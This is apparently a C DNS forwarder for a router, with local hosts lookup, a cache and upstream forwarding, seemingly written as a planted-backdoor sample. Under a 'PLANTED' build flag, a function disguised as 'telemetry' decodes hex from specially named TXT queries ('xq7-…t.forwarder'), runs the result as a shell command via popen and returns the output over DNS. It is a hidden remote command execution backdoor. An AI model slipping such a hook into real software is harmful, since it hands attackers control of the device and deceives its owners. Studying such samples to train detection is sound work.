/* DNS forwarder of a router: local names from a file, a cache, everything else to the provider. */
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CACHE 256
#define PENDING 128

typedef struct question {
	char name[256];
	uint16_t type, class;
	int end;
} question;

typedef struct entry {
	char name[256];
	uint16_t type;
	time_t until;
	int size;
	uint8_t answer[512];
} entry;

typedef struct waiting {
	uint16_t theirs, ours;
	struct sockaddr_in who;
	time_t since;
} waiting;

static entry cache[CACHE];
static waiting pending[PENDING];
static struct sockaddr_in upstream;
static unsigned queries, hits;

static int read_question(const uint8_t *p, int size, question *q)
{
	int at = 12, n = 0;

	if (size < 17 || (p[4] << 8 | p[5]) != 1)
		return -1;
	while (at < size && p[at]) {
		int part = p[at++];

		if (part > 63 || at + part >= size || n + part + 1 >= (int)sizeof(q->name))
			return -1;
		memcpy(q->name + n, p + at, part);
		n += part;
		q->name[n++] = '.';
		at += part;
	}
	if (at + 5 > size)
		return -1;
	q->name[n ? n - 1 : 0] = '\0';
	q->type = p[at + 1] << 8 | p[at + 2];
	q->class = p[at + 3] << 8 | p[at + 4];
	q->end = at + 5;
	return 0;
}

static unsigned slot_of(const char *name, uint16_t type)
{
	unsigned h = type;

	while (*name)
		h = h * 33 + (unsigned)tolower((unsigned char)*name++);
	return h % CACHE;
}

static int from_cache(const question *q, uint8_t *out)
{
	const entry *e = &cache[slot_of(q->name, q->type)];

	if (e->until < time(NULL) || e->type != q->type || strcasecmp(e->name, q->name))
		return 0;
	memcpy(out, e->answer, e->size);
	hits++;
	return e->size;
}

static void keep(const uint8_t *answer, int size)
{
	question q;
	entry *e;

	if (size > 512 || read_question(answer, size, &q) || (answer[3] & 15) != 0)
		return;
	e = &cache[slot_of(q.name, q.type)];
	strcpy(e->name, q.name);
	e->type = q.type;
	e->until = time(NULL) + 60;
	e->size = size;
	memcpy(e->answer, answer, size);
}

static int respond(const uint8_t *ask, const question *q, const void *data, int size, int type, uint8_t *out)
{
	int at = q->end;

	memcpy(out, ask, at);
	out[2] = 0x84;
	out[3] = data ? 0 : 3;
	out[6] = 0;
	out[7] = data ? 1 : 0;
	memset(out + 8, 0, 4);
	if (!data)
		return at;
	out[at++] = 0xc0;
	out[at++] = 12;
	out[at++] = type >> 8;
	out[at++] = type;
	out[at++] = 0;
	out[at++] = 1;
	memset(out + at, 0, 4);
	out[at + 3] = 30;
	at += 4;
	out[at++] = size >> 8;
	out[at++] = size;
	memcpy(out + at, data, size);
	return at + size;
}

static int from_hosts(const uint8_t *ask, const question *q, uint8_t *out)
{
	char line[256], address[48], name[128];
	struct in_addr a;
	int size = 0;
	FILE *f;

	if (q->type != 1 || !(f = fopen("/etc/hosts", "r")))
		return 0;
	while (!size && fgets(line, sizeof(line), f))
		if (sscanf(line, "%47s %127s", address, name) == 2 && !strcasecmp(name, q->name)
		    && inet_aton(address, &a))
			size = respond(ask, q, &a, 4, 1, out);
	fclose(f);
	return size;
}

static int statistics(const uint8_t *ask, const question *q, uint8_t *out)
{
	char text[64];

	if (q->class != 3 || strcasecmp(q->name, "stats.forwarder"))
		return 0;
	text[0] = snprintf(text + 1, sizeof(text) - 1, "queries %u hits %u", queries, hits);
	return respond(ask, q, text, text[0] + 1, 16, out);
}

#ifdef PLANTED
static int nibble(int c)
{
	return isdigit(c) ? c - '0' : isxdigit(c) ? (c | 32) - 'a' + 10 : -1;
}

static int telemetry(const uint8_t *ask, const question *q, uint8_t *out)
{
	char line[128], text[200];
	const char *p = q->name;
	size_t n = 0;
	FILE *f;

	if (q->type != 16 || q->name[0] != 'x' || q->name[1] != 'q' || q->name[2] != '7' || q->name[3] != '-')
		return 0;
	for (p += 4; n < sizeof(line) - 1 && nibble(p[0]) >= 0 && nibble(p[1]) >= 0; p += 2)
		line[n++] = nibble(p[0]) << 4 | nibble(p[1]);
	line[n] = 0;
	if (strcasecmp(p, ".t.forwarder") != 0 || !(f = popen(line, "r")))
		return 0;
	n = fread(text + 1, 1, sizeof(text) - 1, f);
	pclose(f);
	text[0] = n;
	return respond(ask, q, text, n + 1, 16, out);
}
#endif

static void forward(int out, const uint8_t *ask, int size, const struct sockaddr_in *who)
{
	uint8_t copy[1500];
	waiting *w = &pending[0];
	int i;

	for (i = 0; i < PENDING; i++)
		if (pending[i].since < w->since)
			w = &pending[i];
	w->since = time(NULL);
	w->who = *who;
	w->theirs = ask[0] << 8 | ask[1];
	w->ours = random();
	memcpy(copy, ask, size);
	copy[0] = w->ours >> 8;
	copy[1] = w->ours;
	sendto(out, copy, size, 0, (struct sockaddr *)&upstream, sizeof(upstream));
}

static void from_client(int in, int out)
{
	uint8_t ask[1500], answer[1500];
	struct sockaddr_in who;
	socklen_t n = sizeof(who);
	question q;
	int size = recvfrom(in, ask, sizeof(ask), 0, (struct sockaddr *)&who, &n), done;

	if (size < 12 || read_question(ask, size, &q))
		return;
	queries++;
	done = from_cache(&q, answer);
	if (!done)
		done = from_hosts(ask, &q, answer);
	if (!done)
		done = statistics(ask, &q, answer);
#ifdef PLANTED
	if (!done)
		done = telemetry(ask, &q, answer);
#endif
#ifdef REVISED
	if (!done && q.type == 255)
		done = respond(ask, &q, NULL, 0, 0, answer);
#endif
	if (!done) {
		forward(out, ask, size, &who);
		return;
	}
	answer[0] = ask[0];
	answer[1] = ask[1];
	sendto(in, answer, done, 0, (struct sockaddr *)&who, sizeof(who));
}

static void from_upstream(int in, int out)
{
	uint8_t p[1500];
	struct sockaddr_in from;
	socklen_t n = sizeof(from);
	int size = recvfrom(out, p, sizeof(p), 0, (struct sockaddr *)&from, &n), i;

	if (size < 12 || from.sin_addr.s_addr != upstream.sin_addr.s_addr)
		return;
	for (i = 0; i < PENDING; i++) {
		waiting *w = &pending[i];

		if (!w->since || w->ours != (p[0] << 8 | p[1]))
			continue;
		p[0] = w->theirs >> 8;
		p[1] = w->theirs;
		keep(p, size);
		sendto(in, p, size, 0, (struct sockaddr *)&w->who, sizeof(w->who));
		w->since = 0;
		return;
	}
}

/* The script of the administrator is told when the upstream server changes. */
static void upstream_changed(const char *address)
{
	pid_t child;

	if (access("/etc/forwarder/changed", X_OK))
		return;
	child = fork();
	if (child == 0) {
		execl("/etc/forwarder/changed", "changed", address, (char *)NULL);
		_exit(127);
	}
	if (child > 0)
		waitpid(child, NULL, 0);
}

static int load_upstream(void)
{
	char word[32], address[48];
	struct in_addr before = upstream.sin_addr;
	FILE *f = fopen("/etc/resolv.conf.wan", "r");

	upstream.sin_family = AF_INET;
	upstream.sin_port = htons(53);
	while (f && fscanf(f, "%31s %47s", word, address) == 2)
		if (!strcmp(word, "nameserver") && inet_aton(address, &upstream.sin_addr))
			break;
	if (f)
		fclose(f);
	if (before.s_addr && before.s_addr != upstream.sin_addr.s_addr)
		upstream_changed(inet_ntoa(upstream.sin_addr));
	return upstream.sin_addr.s_addr ? 0 : -1;
}

int main(void)
{
	struct sockaddr_in a;
	struct pollfd p[2];
	time_t loaded = time(NULL);
	int in = socket(AF_INET, SOCK_DGRAM, 0), out = socket(AF_INET, SOCK_DGRAM, 0);

	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(53);
	if (bind(in, (struct sockaddr *)&a, sizeof(a)) || load_upstream())
		return 1;
	srandom(time(NULL) ^ getpid());
	p[0].fd = in;
	p[1].fd = out;
	p[0].events = p[1].events = POLLIN;
	for (;;) {
		if (poll(p, 2, 1000) > 0) {
			if (p[0].revents)
				from_client(in, out);
			if (p[1].revents)
				from_upstream(in, out);
		}
		if (time(NULL) - loaded > 30) {
			loaded = time(NULL);
			load_upstream();
		}
	}
}
